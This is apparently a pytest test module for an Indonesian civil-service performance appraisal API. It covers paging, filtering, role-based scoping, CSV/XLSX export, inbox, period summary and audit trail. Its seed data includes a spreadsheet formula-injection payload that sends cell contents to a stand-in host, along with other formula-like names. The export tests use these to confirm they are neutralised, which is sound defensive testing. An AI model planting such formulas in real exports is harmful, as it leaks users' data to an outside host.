"""Lists for the three audiences: paging, sorting, filtering and scoping over 1,050
appraisals, CSV/XLSX export, the caller's own appraisals, the inbox, a period's summary
and the audit trail.

Reading is what is tested, so the 1,050 appraisals are written straight into the
projection (with their employees, a period and two unit assessments); the inbox and the
audit trail are checked against real journeys on Temporal."""

import csv
import io
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from domain.appraisal import AppraisalState
from domain.distribusi import UnitPredikat, check_distribution
from domain.predikat import Predikat
from domain.stages import Stage
from domain.unit import UnitState
from persistence.models import Agency, Appraisal, Employee, Period, Unit, UnitAssessment
from persistence.repositories.organisation import upsert_roster
from rehearsal.organisation import make_nip as nip_of
from tests.api.conftest import TokenFor
from tests.api.journey import (
    PROBLEM_JSON,
    UNIT_MEMBERS,
    Journey,
    checkin_report,
    finalised_unit,
    rate_unit,
    skp_content,
    start_period,
)
from tests.factories import make_period, make_schedule
from tests.orgs import AUDITOR, HEAD, HR, OUTSIDER, PEER, STAFF, SUPERVISOR, TIM, WITH_OTHER_ROLES
from tests.waiting import eventually

BULK = "bulk-2030"
EARLIER = "bulk-2029"
SIZE = 1050
PAGE = 200
SPLIT = 700  # employees 0..699 work in AGA, 700.. in AGB
UNITS = ("AGA-U1", "AGA-U2", "AGB-U1")
BASE = datetime(2030, 3, 1, 8, tzinfo=UTC)
EXPORT_COLUMNS = [
    "period_id",
    "nip",
    "name",
    "position",
    "agency_code",
    "unit_code",
    "supervisor_nip",
    "stage",
    "predikat",
    "overdue",
    "at_risk",
    "updated_at",
    # what a BKPSDM report needs (tests/api/test_exports.py)
    "hasil_kerja",
    "perilaku",
    "keberatan_status",
    "keberatan_outcome",
    "development_status",
    "overdue_steps",
]
RATED = (Stage.PENILAIAN, Stage.TINDAK_LANJUT, Stage.SELESAI)
# Names a spreadsheet would run as formulas (CSV/formula injection).
FORMULAS = {
    42: '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    43: "+62 812 0000 0000",
    44: "-1+1",
    45: "@SUM(1+1)",
}


RosterAuditor = Callable[[], Awaitable[dict[str, str]]]


@pytest.fixture
def roster_auditor(sessionmaker: async_sessionmaker[AsyncSession], auth: TokenFor) -> RosterAuditor:
    """Headers of the inspectorate's auditor, added to the roster when first asked for (after
    any period has started, so no appraisal is opened for them): the roster grants the role."""

    async def headers() -> dict[str, str]:
        async with sessionmaker.begin() as session:
            await upsert_roster(session, [r for r in WITH_OTHER_ROLES if r.nip == AUDITOR])
        return auth(AUDITOR)

    return headers


@dataclass(frozen=True)
class Row:
    i: int
    nip: str
    name: str
    agency: str
    unit: str
    supervisor: str | None
    stage: str
    predikat: str | None
    overdue: bool
    at_risk: bool
    updated_at: datetime


def supervisor_index(i: int) -> int | None:
    """AGA: 0 heads it, 1..10 report to 0, everyone else to one of 1..10 (AGB alike)."""
    head = 0 if i < SPLIT else SPLIT
    if i == head:
        return None
    if i <= head + 10:
        return head
    return head + 1 + i % 10


def make_row(i: int) -> Row:
    stage = list(Stage)[i % len(Stage)]
    supervisor = supervisor_index(i)
    return Row(
        i=i,
        nip=nip_of(i),
        name=FORMULAS.get(i, f"Pegawai {i:04d}"),
        agency="AGA" if i < SPLIT else "AGB",
        unit=UNITS[0] if i < 350 else UNITS[1] if i < SPLIT else UNITS[2],
        supervisor=nip_of(supervisor) if supervisor is not None else None,
        stage=stage.value,
        predikat=list(Predikat)[i % 5].value if stage in RATED else None,
        overdue=i % 3 == 0,
        at_risk=i % 4 == 0,
        updated_at=BASE + timedelta(minutes=i % 300),  # ties: the NIP breaks them
    )


ROWS = [make_row(i) for i in range(SIZE)]
BY_NIP = {row.nip: row for row in ROWS}
# Unit predicates: AGA-U1 'butuh_perbaikan' (broken: far fewer than 60 % butuh
# perbaikan), AGB-U1 'istimewa' (holds), AGA-U2 none yet.
UNIT_PREDIKAT = {"AGA-U1": UnitPredikat.BUTUH_PERBAIKAN, "AGB-U1": UnitPredikat.ISTIMEWA}
LEAF = ROWS[123]  # nobody reports to 123
MANAGER = ROWS[3]  # reports to 0; supervises AGA employees i > 10 with i % 10 == 2
AGB_TIM = ROWS[800]


def appraisal_row(row: Row, period_id: str, updated_at: datetime) -> Appraisal:
    state = AppraisalState(
        period_id=period_id,
        nip=row.nip,
        agency_code=row.agency,
        unit_code=row.unit,
        supervisor_nip=row.supervisor,
        stage=Stage(row.stage),
        overdue=row.overdue,
        at_risk=row.at_risk,
    )
    return Appraisal(
        period_id=period_id,
        nip=row.nip,
        agency_code=row.agency,
        unit_code=row.unit,
        supervisor_nip=row.supervisor,
        stage=row.stage,
        predikat=row.predikat,
        overdue=row.overdue,
        at_risk=row.at_risk,
        version=1,
        state=state.model_dump(mode="json"),
        workflow_id=f"appraisal-{period_id}-{row.nip}",
        updated_at=updated_at,
    )


@pytest.fixture
async def bulk(client: httpx.AsyncClient, sessionmaker: async_sessionmaker[AsyncSession]) -> None:
    await seed_bulk(sessionmaker)


async def seed_bulk(sessionmaker: async_sessionmaker[AsyncSession]) -> None:
    """1,050 appraisals in BULK; three of them also in EARLIER, a year before."""
    schedule = make_schedule(datetime(2030, 1, 1, tzinfo=UTC)).model_dump(mode="json")
    async with sessionmaker.begin() as session:
        session.add_all(
            [Agency(code="AGA", name="Dinas A"), Agency(code="AGB", name="Dinas B")]
            + [Unit(code=code, agency_code=code[:3], name=code) for code in UNITS]
        )
        await session.flush()
        session.add_all(
            Employee(
                nip=row.nip,
                name=row.name,
                position="=1+1" if row.i == 46 else "Analis",
                grade="Penata (III/c)",
                employment_type="PNS",
                agency_code=row.agency,
                unit_code=row.unit,
                supervisor_nip=row.supervisor,
                is_tim_penilai=row is AGB_TIM,  # the roster makes them tim penilai
            )
            for row in ROWS
        )
        for period_id, year in ((BULK, 2030), (EARLIER, 2029)):
            session.add(
                Period(
                    id=period_id,
                    name=f"Penilaian Kinerja {year}",
                    starts_on=date(year, 1, 1),
                    ends_on=date(year, 12, 31),
                    schedule=schedule,
                    status="running",
                    employees_started=SIZE,
                    created_by=HR,
                )
            )
        await session.flush()
        session.add_all(appraisal_row(row, BULK, row.updated_at) for row in ROWS)
        session.add_all(
            appraisal_row(row, EARLIER, row.updated_at - timedelta(days=365))
            for row in (ROWS[0], LEAF, AGB_TIM)
        )
        for unit, predikat in UNIT_PREDIKAT.items():
            state = UnitState(
                period_id=BULK, unit_code=unit, agency_code=unit[:3], unit_predikat=predikat
            )
            session.add(
                UnitAssessment(
                    period_id=BULK,
                    unit_code=unit,
                    agency_code=unit[:3],
                    unit_predikat=predikat.value,
                    version=state.version,
                    state=state.model_dump(mode="json"),
                    updated_at=BASE,
                )
            )


async def walk(
    client: httpx.AsyncClient, headers: dict[str, str], query: str
) -> tuple[int, list[dict[str, Any]]]:
    """Every page of ``GET /appraisals?{query}`` at 200 a page; the total each page says."""
    items: list[dict[str, Any]] = []
    totals = set()
    offset = 0
    while True:
        response = await client.get(
            f"/appraisals?{query}&limit={PAGE}&offset={offset}", headers=headers
        )
        assert response.status_code == 200, response.text
        page = response.json()
        assert (page["limit"], page["offset"]) == (PAGE, offset)
        assert len(page["items"]) <= PAGE
        totals.add(page["total"])
        items += page["items"]
        if len(page["items"]) < PAGE:
            break
        offset += PAGE
    assert len(totals) == 1, totals
    return totals.pop(), items


def nips(items: list[dict[str, Any]]) -> list[str]:
    return [item["nip"] for item in items]


# --- paging and sorting -------------------------------------------------------------------


async def test_paging_walks_every_appraisal_exactly_once_in_the_requested_order(
    client: httpx.AsyncClient, auth: TokenFor, bulk: None
) -> None:
    hr = auth(HR, "hr_admin")

    total, by_nip = await walk(client, hr, f"period_id={BULK}&sort=nip&order=asc")

    assert total == SIZE
    assert len(by_nip) == SIZE
    assert nips(by_nip) == sorted(BY_NIP)  # each exactly once, in NIP order
    first = by_nip[0]
    row = BY_NIP[first["nip"]]
    assert first == {
        "period_id": BULK,
        "nip": row.nip,
        "name": row.name,
        "position": "Analis",
        "agency_code": row.agency,
        "unit_code": row.unit,
        "supervisor_nip": row.supervisor,
        "stage": row.stage,
        "predikat": row.predikat,
        "overdue": row.overdue,
        "at_risk": row.at_risk,
        "updated_at": first["updated_at"],
        "closed_at": None,  # its period is not closed
    }
    assert datetime.fromisoformat(first["updated_at"]) == row.updated_at

    total, newest_first = await walk(client, hr, f"period_id={BULK}&sort=updated_at&order=desc")

    assert total == SIZE
    assert sorted(nips(newest_first)) == sorted(BY_NIP)
    expected = sorted(ROWS, key=lambda r: (-r.updated_at.timestamp(), r.nip))
    assert nips(newest_first) == [r.nip for r in expected]
    stamps = [datetime.fromisoformat(item["updated_at"]) for item in newest_first]
    assert stamps == sorted(stamps, reverse=True)

    beyond = await client.get(f"/appraisals?period_id={BULK}&offset={SIZE}", headers=hr)
    assert beyond.status_code == 200
    assert (beyond.json()["total"], beyond.json()["items"]) == (SIZE, [])
    default = await client.get(f"/appraisals?period_id={BULK}", headers=hr)
    assert len(default.json()["items"]) == 50

    for limit in (201, 1000, 0):
        too_many = await client.get(f"/appraisals?period_id={BULK}&limit={limit}", headers=hr)
        assert too_many.status_code == 422
        assert too_many.headers["content-type"] == PROBLEM_JSON
        problem = too_many.json()
        assert problem["type"] == "/problems/validation-error"
        assert [error["field"] for error in problem["errors"]] == ["query.limit"]


@pytest.mark.parametrize(
    ("query", "matches"),
    [
        ("agency_code=AGB", lambda r: r.agency == "AGB"),
        ("unit_code=AGA-U2", lambda r: r.unit == "AGA-U2"),
        ("stage=wawancara", lambda r: r.stage == "wawancara"),
        ("predikat=baik", lambda r: r.predikat == "baik"),
        ("overdue=true", lambda r: r.overdue),
        ("overdue=false", lambda r: not r.overdue),
        ("at_risk=true", lambda r: r.at_risk),
        (
            "agency_code=AGA&stage=penilaian&overdue=true&at_risk=false",
            lambda r: r.agency == "AGA" and r.stage == "penilaian" and r.overdue and not r.at_risk,
        ),
        (
            "unit_code=AGB-U1&predikat=sangat_kurang",
            lambda r: r.unit == "AGB-U1" and r.predikat == "sangat_kurang",
        ),
    ],
)
async def test_each_filter_narrows_the_list_to_exactly_its_rows(
    client: httpx.AsyncClient, auth: TokenFor, bulk: None, query: str, matches: Any
) -> None:
    expected = sorted(row.nip for row in ROWS if matches(row))
    assert 0 < len(expected) < SIZE

    total, items = await walk(client, auth(HR, "hr_admin"), f"period_id={BULK}&{query}")

    assert total == len(expected)
    assert nips(items) == expected


async def test_other_periods_are_filtered_out(
    client: httpx.AsyncClient, auth: TokenFor, bulk: None
) -> None:
    total, items = await walk(client, auth(HR, "hr_admin"), f"period_id={EARLIER}")
    assert total == 3
    assert {item["period_id"] for item in items} == {EARLIER}
    total, _ = await walk(client, auth(HR, "hr_admin"), "sort=nip")
    assert total == SIZE + 3


# --- scoping ------------------------------------------------------------------------------


def visible_to(nip: str, agency: str | None = None) -> list[str]:
    """What the rule says a caller sees: own, those they supervise, those supervised by
    their direct reports; a tim penilai also their whole agency."""
    reports = {row.nip for row in ROWS if row.supervisor == nip}
    return sorted(
        row.nip
        for row in ROWS
        if row.nip == nip
        or row.supervisor == nip
        or row.supervisor in reports
        or (agency is not None and row.agency == agency)
    )


async def test_each_caller_lists_only_what_they_may_see(
    client: httpx.AsyncClient,
    auth: TokenFor,
    roster_auditor: RosterAuditor,
    bulk: None,
) -> None:
    auditor_token = await roster_auditor()
    head = ROWS[0]
    cases = {
        "the head of AGA (the whole chain below)": (auth(head.nip), visible_to(head.nip)),
        "a supervisor": (auth(MANAGER.nip, "pejabat_penilai"), visible_to(MANAGER.nip)),
        "an employee nobody reports to": (auth(LEAF.nip), [LEAF.nip]),
        "the tim penilai of AGB": (
            auth(AGB_TIM.nip, "tim_penilai"),
            visible_to(AGB_TIM.nip, "AGB"),
        ),
        "an employee of another agency": (auth(OUTSIDER), []),
        "HR": (auth(HR, "hr_admin"), sorted(BY_NIP)),
        "the auditor": (auditor_token, sorted(BY_NIP)),
    }
    assert len(visible_to(head.nip)) == SPLIT
    assert len(visible_to(MANAGER.nip)) == 1 + sum(1 for r in ROWS if r.supervisor == MANAGER.nip)
    assert len(visible_to(AGB_TIM.nip, "AGB")) == SIZE - SPLIT

    for who, (headers, expected) in cases.items():
        total, items = await walk(client, headers, f"period_id={BULK}&sort=nip")
        assert (total, nips(items)) == (len(expected), expected), who


# --- export -------------------------------------------------------------------------------


async def test_csv_export_holds_exactly_the_filtered_rows_neutralised_and_is_audited(
    client: httpx.AsyncClient, auth: TokenFor, bulk: None
) -> None:
    hr = {**auth(HR, "hr_admin"), "X-Request-ID": "export-csv-1"}
    query = f"period_id={BULK}&agency_code=AGA&unit_code=AGA-U1&format=csv"

    response = await client.get(f"/appraisals/export?{query}", headers=hr)

    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert f'filename="kinerja-{BULK}.csv"' in response.headers["content-disposition"]
    header, *lines = list(csv.reader(io.StringIO(response.text)))
    assert header == EXPORT_COLUMNS
    expected = sorted(row.nip for row in ROWS if row.unit == "AGA-U1")
    assert sorted(line[1] for line in lines) == expected
    assert len(lines) == len(expected)
    exported = {line[1]: dict(zip(header, line, strict=True)) for line in lines}
    for i, formula in FORMULAS.items():
        name = exported[nip_of(i)]["name"]
        assert name[0] not in "=+-@", name  # would run as a formula in a spreadsheet
        assert name.endswith(formula)
    assert exported[nip_of(46)]["position"][0] not in "=+-@"
    plain = exported[nip_of(100)]
    assert plain["name"] == "Pegawai 0100"
    assert (plain["stage"], plain["predikat"]) == (ROWS[100].stage, ROWS[100].predikat or "")

    audit = await client.get("/audit?action=appraisals.exported", headers=auth(HR, "hr_admin"))
    assert audit.status_code == 200, audit.text
    [event] = audit.json()["items"]
    assert (event["actor"], event["subject_type"], event["subject_id"]) == (HR, "export", "csv")
    assert (event["period_id"], event["request_id"]) == (BULK, "export-csv-1")
    assert event["after"] == {"period_id": BULK, "agency_code": "AGA", "unit_code": "AGA-U1"}

    # the tim penilai of AGB exports only AGB, whatever the filter asks
    tim = auth(AGB_TIM.nip, "tim_penilai")
    scoped = await client.get(f"/appraisals/export?period_id={BULK}", headers=tim)
    _, *tim_lines = list(csv.reader(io.StringIO(scoped.text)))
    assert sorted(line[1] for line in tim_lines) == visible_to(AGB_TIM.nip, "AGB")
    nothing = await client.get(f"/appraisals/export?period_id={BULK}&agency_code=AGA", headers=tim)
    assert list(csv.reader(io.StringIO(nothing.text))) == [EXPORT_COLUMNS]
    audit = await client.get("/audit?action=appraisals.exported", headers=auth(HR, "hr_admin"))
    assert audit.json()["total"] == 3
    assert {e["actor"] for e in audit.json()["items"]} == {HR, AGB_TIM.nip}


async def test_xlsx_export_holds_exactly_the_filtered_rows_with_no_formulas(
    client: httpx.AsyncClient, auth: TokenFor, bulk: None
) -> None:
    hr = {**auth(HR, "hr_admin"), "X-Request-ID": "export-xlsx-1"}
    query = f"period_id={BULK}&stage=sosialisasi&format=xlsx"

    response = await client.get(f"/appraisals/export?{query}", headers=hr)

    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.content))["penilaian"]
    header, *lines = list(sheet.iter_rows())
    assert [cell.value for cell in header] == EXPORT_COLUMNS
    expected = sorted(row.nip for row in ROWS if row.stage == "sosialisasi")
    assert sorted(line[1].value for line in lines) == expected
    by_nip = {line[1].value: line for line in lines}
    assert by_nip[nip_of(0)][2].value == "Pegawai 0000"
    formula_rows = [nip_of(i) for i in FORMULAS if ROWS[i].stage == "sosialisasi"]
    assert formula_rows, "a formula-like name must be among the exported rows"
    for nip in formula_rows:
        cell = by_nip[nip][2]
        assert cell.data_type != "f", f"{nip}: name exported as a formula {cell.value!r}"
        assert str(cell.value)[0] not in "=+-@", cell.value

    audit = await client.get("/audit?action=appraisals.exported", headers=auth(HR, "hr_admin"))
    [event] = audit.json()["items"]
    assert (event["subject_id"], event["request_id"]) == ("xlsx", "export-xlsx-1")


# --- the caller's own ---------------------------------------------------------------------


async def test_my_appraisals_are_mine_across_periods_newest_first(
    client: httpx.AsyncClient,
    auth: TokenFor,
    roster_auditor: RosterAuditor,
    bulk: None,
) -> None:
    response = await client.get("/me/appraisals", headers=auth(LEAF.nip))

    assert response.status_code == 200, response.text
    mine = response.json()
    assert mine["total"] == 2
    assert [(i["period_id"], i["nip"]) for i in mine["items"]] == [
        (BULK, LEAF.nip),
        (EARLIER, LEAF.nip),
    ]
    # a supervisor sees only their own here, not those they supervise
    boss = await client.get("/me/appraisals", headers=auth(ROWS[0].nip, "pejabat_penilai"))
    assert {i["nip"] for i in boss.json()["items"]} == {ROWS[0].nip}
    assert boss.json()["total"] == 2
    hr = await client.get("/me/appraisals", headers=auth(HR, "hr_admin"))
    assert hr.json()["total"] == 0
    auditor_headers = await roster_auditor()
    auditor = await client.get("/me/appraisals", headers=auditor_headers)
    assert (auditor.status_code, auditor.json()["total"]) == (200, 0)
    assert (await client.get("/me/appraisals")).status_code == 401


# --- the period summary -------------------------------------------------------------------


def expected_agency(agency: str) -> dict[str, Any]:
    rows = [row for row in ROWS if row.agency == agency]
    stages = Counter(row.stage for row in rows)
    predikat = Counter(row.predikat for row in rows if row.predikat)
    return {
        "agency_code": agency,
        "total": len(rows),
        "stages": {stage.value: stages.get(stage.value, 0) for stage in Stage},
        "predikat": {p.value: predikat.get(p.value, 0) for p in Predikat},
        "unrated": sum(1 for row in rows if row.predikat is None),
        "overdue": sum(1 for row in rows if row.overdue),
    }


def expected_unit(unit: str) -> dict[str, Any]:
    rows = [row for row in ROWS if row.unit == unit]
    rated = [Predikat(row.predikat) for row in rows if row.predikat]
    unit_predikat = UNIT_PREDIKAT.get(unit)
    violations = check_distribution(unit_predikat, rated) if unit_predikat else []
    return {
        "agency_code": unit[:3],
        "unit_code": unit,
        "members": len(rows),
        "unrated": len(rows) - len(rated),
        "unit_predikat": unit_predikat.value if unit_predikat else None,
        "violations": [v.model_dump(mode="json") for v in violations],
        "finalised": False,
        "finalised_at": None,
        "override": None,
    }


async def test_the_period_summary_counts_per_agency_and_judges_each_unit(
    client: httpx.AsyncClient,
    auth: TokenFor,
    roster_auditor: RosterAuditor,
    bulk: None,
) -> None:
    url = f"/periods/{BULK}/summary"

    response = await client.get(url, headers=auth(HR, "hr_admin"))

    assert response.status_code == 200, response.text
    summary = response.json()
    assert summary["period_id"] == BULK
    assert summary["total"] == SIZE
    assert summary["overdue"] == sum(1 for row in ROWS if row.overdue)
    assert summary["agencies"] == [expected_agency("AGA"), expected_agency("AGB")]
    assert summary["units"] == [expected_unit(unit) for unit in UNITS]
    broken = summary["units"][0]
    assert broken["unit_predikat"] == "butuh_perbaikan"
    assert "sedikitnya 60% butuh_perbaikan" in {v["rule"] for v in broken["violations"]}
    assert broken["violations"][0]["off_by"] > 0
    assert summary["units"][1]["violations"] == []  # no unit predicate yet: nothing to judge
    assert summary["units"][2]["unit_predikat"] == "istimewa"
    assert summary["units"][2]["violations"] == []  # the rule holds

    tim = await client.get(url, headers=auth(AGB_TIM.nip, "tim_penilai"))
    assert tim.status_code == 200, tim.text
    assert tim.json()["agencies"] == [expected_agency("AGB")]
    assert tim.json()["units"] == [expected_unit("AGB-U1")]
    assert tim.json()["total"] == SIZE - SPLIT

    auditor_token = await roster_auditor()
    auditor = await client.get(url, headers=auditor_token)
    assert auditor.json() == summary
    for headers in (auth(MANAGER.nip, "pejabat_penilai"), auth(LEAF.nip)):
        refused = await client.get(url, headers=headers)
        assert refused.status_code == 403
        assert refused.json()["type"] == "/problems/forbidden"
    missing = await client.get("/periods/nothing-here/summary", headers=auth(HR, "hr_admin"))
    assert missing.status_code == 404


# --- the inbox, after real journeys -------------------------------------------------------


async def inbox(client: httpx.AsyncClient, headers: dict[str, str]) -> dict[str, Any]:
    response = await client.get("/me/inbox", headers=headers)
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    assert body["overdue"] == sum(1 for item in body["items"] if item["overdue"])
    dues = [item["due"] for item in body["items"]]
    assert dues == sorted(dues, key=datetime.fromisoformat)
    return body


def owed(body: dict[str, Any], nip: str) -> list[tuple[str, str, bool]]:
    return [(i["step"], i["owed_as"], i["overdue"]) for i in body["items"] if i["nip"] == nip]


async def test_the_inbox_shows_each_person_what_they_owe(
    client: httpx.AsyncClient, auth: TokenFor, period_id: str
) -> None:
    await start_period(client, auth, period_id)
    staff = Journey(client, auth, period_id, STAFF)
    schedule = (await staff.read())["pending"]
    supervisor = auth(SUPERVISOR, "pejabat_penilai")
    head = auth(HEAD, "pejabat_penilai")

    first = await inbox(client, staff.employee)
    assert owed(first, STAFF) == [("sosialisasi", "pegawai", False)]
    [item] = first["items"]
    assert item["period_id"] == period_id
    assert item["title"] == "Menyatakan telah mengikuti sosialisasi"
    assert item["due"] == schedule[0]["due"]
    # nobody else owes STAFF's acknowledgement
    for headers in (supervisor, head, auth(PEER), auth(HR, "hr_admin")):
        assert owed(await inbox(client, headers), STAFF) == []

    await staff.ok("POST", "/acknowledge", staff.employee)
    assert owed(await inbox(client, staff.employee), STAFF) == [
        ("skp_penyusunan", "pegawai", False)
    ]
    await staff.ok("PUT", "/skp", staff.employee, {"content": skp_content()})
    submitted = await staff.ok("POST", "/skp/submit", staff.employee)

    assert owed(await inbox(client, staff.employee), STAFF) == []
    supervisors = await inbox(client, supervisor)
    assert owed(supervisors, STAFF) == [("skp_persetujuan", "pejabat_penilai", False)]
    approval = next(i for i in supervisors["items"] if i["nip"] == STAFF)
    assert approval["due"] == submitted["pending"][0]["due"]
    assert approval["title"] == "Menyetujui atau mengembalikan SKP"
    assert owed(supervisors, SUPERVISOR) == [("sosialisasi", "pegawai", False)]
    assert owed(await inbox(client, head), STAFF) == []  # the atasan does not approve SKPs

    # through to a delivered result, and a keberatan for the atasan to decide
    await staff.ok("POST", "/skp/approve", supervisor, {"note": "Disetujui"})
    await staff.ok("POST", "/checkins/1/report", staff.employee, checkin_report())
    await staff.ok("POST", "/checkins/1/feedback", supervisor, {"text": "Terus pertahankan"})
    await staff.record_dialogue()
    assert owed(await inbox(client, supervisor), STAFF) == [("penilaian", "pejabat_penilai", False)]
    await staff.rate("sesuai", "sesuai")
    everyone_else = {nip: ("sesuai", "sesuai") for nip in UNIT_MEMBERS if nip != STAFF}
    await rate_unit(client, auth, period_id, everyone_else)
    await finalised_unit(client, auth, period_id, "istimewa")
    assert owed(await inbox(client, head), STAFF) == []
    filed = await staff.ok("POST", "/keberatan", staff.employee, {"reasons": "Capaian kurang"})

    heads = await inbox(client, head)
    assert owed(heads, STAFF) == [("keberatan_putusan", "atasan_penilai", False)]
    decision = next(i for i in heads["items"] if i["nip"] == STAFF)
    assert decision["due"] == filed["pending"][0]["due"]
    assert decision["title"] == "Memutus keberatan"
    assert owed(await inbox(client, supervisor), STAFF) == []
    assert owed(await inbox(client, auth(HR, "hr_admin")), STAFF) == []
    assert owed(await inbox(client, auth(TIM, "tim_penilai")), STAFF) == []


def quick_period(period_id: str) -> dict[str, Any]:
    """Due times seconds apart (sosialisasi due two seconds from now), so steps go
    overdue and escalate while the test watches."""
    second = timedelta(seconds=1)
    period = make_period(
        period_id,
        start=datetime.now(UTC) - 4 * second,
        step=6 * second,
        reminder_before=2 * second,
        escalation_interval=3 * second,
    )
    return period.model_dump(mode="json")


async def test_the_inbox_flags_a_step_past_its_due_time(
    client: httpx.AsyncClient, auth: TokenFor, period_id: str
) -> None:
    hr = auth(HR, "hr_admin")
    started = await client.post("/periods", json=quick_period(period_id), headers=hr)
    assert started.status_code == 201, started.text

    late = await eventually(
        lambda: inbox(client, auth(PEER)),
        lambda body: owed(body, PEER) == [("sosialisasi", "pegawai", True)],
        what="PEER's acknowledgement overdue in the inbox",
    )

    assert late["overdue"] == 1
    [item] = late["items"]
    assert datetime.fromisoformat(item["due"]) <= datetime.now(UTC)


# --- the audit trail ----------------------------------------------------------------------


async def audit_page(
    client: httpx.AsyncClient, headers: dict[str, str], query: str
) -> dict[str, Any]:
    response = await client.get(f"/audit?{query}&limit=200", headers=headers)
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


async def test_every_api_write_and_every_escalation_is_in_the_audit_trail(
    client: httpx.AsyncClient,
    auth: TokenFor,
    roster_auditor: RosterAuditor,
    period_id: str,
) -> None:
    def traced(headers: dict[str, str], request_id: str) -> dict[str, str]:
        return {**headers, "X-Request-ID": request_id}

    hr = auth(HR, "hr_admin")
    staff = auth(STAFF)
    url = f"/appraisals/{period_id}/{STAFF}"
    started = await client.post(
        "/periods", json=quick_period(period_id), headers=traced(hr, "rq-start")
    )
    assert started.status_code == 201, started.text
    other = f"{period_id}-o"
    await start_period(client, auth, other)  # another period, for the period filter

    async def persisted() -> int:
        return (await client.get(url, headers=hr)).status_code

    await eventually(persisted, lambda status: status == 200, what="STAFF's appraisal")
    later = (datetime.now(UTC) + timedelta(days=30)).isoformat()
    writes: list[tuple[str, str, dict[str, str], Any, str]] = [
        ("POST", f"{url}/acknowledge", traced(staff, "rq-ack"), None, "rq-ack"),
        ("PUT", f"{url}/skp", traced(staff, "rq-draft"), {"content": skp_content()}, "rq-draft"),
        ("POST", f"{url}/skp/submit", traced(staff, "rq-submit"), None, "rq-submit"),
        (
            "POST",
            f"{url}/skp/return",
            traced(auth(SUPERVISOR, "pejabat_penilai"), "rq-return"),
            {"note": "Lengkapi indikator"},
            "rq-return",
        ),
        (
            "POST",
            f"/appraisals/{period_id}/{PEER}/deadlines/sosialisasi_due/extend",
            traced(hr, "rq-extend"),
            {"new_due": later, "reason": "Cuti melahirkan"},
            "rq-extend",
        ),
        (
            "PUT",
            f"/periods/{period_id}/units/DINKES-UMUM/predikat",
            traced(hr, "rq-unit"),
            {"predikat": "baik"},
            "rq-unit",
        ),
    ]
    for method, target, headers, body, _ in writes:
        response = await client.request(method, target, headers=headers, json=body)
        assert response.status_code == 200, (target, response.text)
    bulk = await client.post(
        f"/periods/{period_id}/extensions",
        headers=traced(hr, "rq-bulk"),
        json={
            "deadline": "sosialisasi_due",
            "new_due": later,
            "reason": "Gangguan jaringan",
            "agency_code": "DISDIK",
        },
    )
    assert bulk.status_code == 202, bulk.text

    expected = {
        # request id: (actor, action, subject type, subject id)
        "rq-start": (HR, "period.started", "period", period_id),
        "rq-ack": (STAFF, "sosialisasi.acknowledged", "appraisal", f"{period_id}/{STAFF}"),
        "rq-draft": (STAFF, "skp.drafted", "appraisal", f"{period_id}/{STAFF}"),
        "rq-submit": (STAFF, "skp.submitted", "appraisal", f"{period_id}/{STAFF}"),
        "rq-return": (SUPERVISOR, "skp.returned", "appraisal", f"{period_id}/{STAFF}"),
        "rq-extend": (HR, "deadline.extended", "appraisal", f"{period_id}/{PEER}"),
        "rq-unit": (HR, "unit.predikat_set", "unit", f"{period_id}/DINKES-UMUM"),
        "rq-bulk": (HR, "deadline.extended", "appraisal", f"{period_id}/{OUTSIDER}"),
    }

    def by_request(page: dict[str, Any]) -> dict[str, tuple[str, str, str, str]]:
        return {
            e["request_id"]: (e["actor"], e["action"], e["subject_type"], e["subject_id"])
            for e in page["items"]
            if e["request_id"] in expected
        }

    async def written() -> dict[str, Any]:
        merged: dict[str, Any] = {"items": []}
        for actor in (HR, STAFF, SUPERVISOR):
            merged["items"] += (
                await audit_page(client, hr, f"period_id={period_id}&actor={actor}")
            )["items"]
        return merged

    trail = await eventually(
        written, lambda page: by_request(page) == expected, what="every write audited"
    )
    for event in trail["items"]:
        assert event["period_id"] == period_id
        assert event["actor"] in (HR, STAFF, SUPERVISOR)
        assert event["request_id"] in expected, event  # no write without its request id

    # filters: subject, actor, action, period
    subject = await audit_page(
        client, hr, f"subject_type=appraisal&subject_id={period_id}/{STAFF}&actor={STAFF}"
    )
    assert [e["action"] for e in reversed(subject["items"])] == [
        "sosialisasi.acknowledged",
        "skp.drafted",
        "skp.submitted",
    ]
    assert all(e["actor_role"] == "pegawai" for e in subject["items"])
    starts = await audit_page(client, hr, "action=period.started")
    assert sorted(e["subject_id"] for e in starts["items"]) == sorted([period_id, other])
    only_this = await audit_page(client, hr, f"action=period.started&period_id={period_id}")
    assert [e["request_id"] for e in only_this["items"]] == ["rq-start"]
    assert (await audit_page(client, hr, f"period_id={other}&actor={STAFF}"))["total"] == 0

    # escalations are written by the workflow itself, as 'system', without a request
    escalations = await eventually(
        lambda: audit_page(client, hr, f"period_id={period_id}&action=deadline.eskalasi"),
        lambda page: page["total"] >= 1,
        what="an escalation audited",
    )
    for event in escalations["items"]:
        assert (event["actor"], event["actor_role"], event["request_id"]) == ("system", None, None)
        assert event["after"]["level"] >= 1
    system = await audit_page(client, hr, f"period_id={period_id}&actor=system")
    assert {e["action"] for e in system["items"]} >= {"deadline.pengingat", "deadline.eskalasi"}

    # only HR and the auditor read the trail
    auditor = await roster_auditor()
    seen = await client.get(f"/audit?period_id={period_id}", headers=auditor)
    assert seen.status_code == 200
    for headers in (
        staff,
        auth(SUPERVISOR, "pejabat_penilai"),
        auth(HEAD, "pejabat_penilai", "atasan_penilai"),
        auth(TIM, "tim_penilai"),
    ):
        refused = await client.get(f"/audit?period_id={period_id}", headers=headers)
        assert refused.status_code == 403
        assert refused.json()["type"] == "/problems/forbidden"
    assert (await client.get("/audit")).status_code == 401
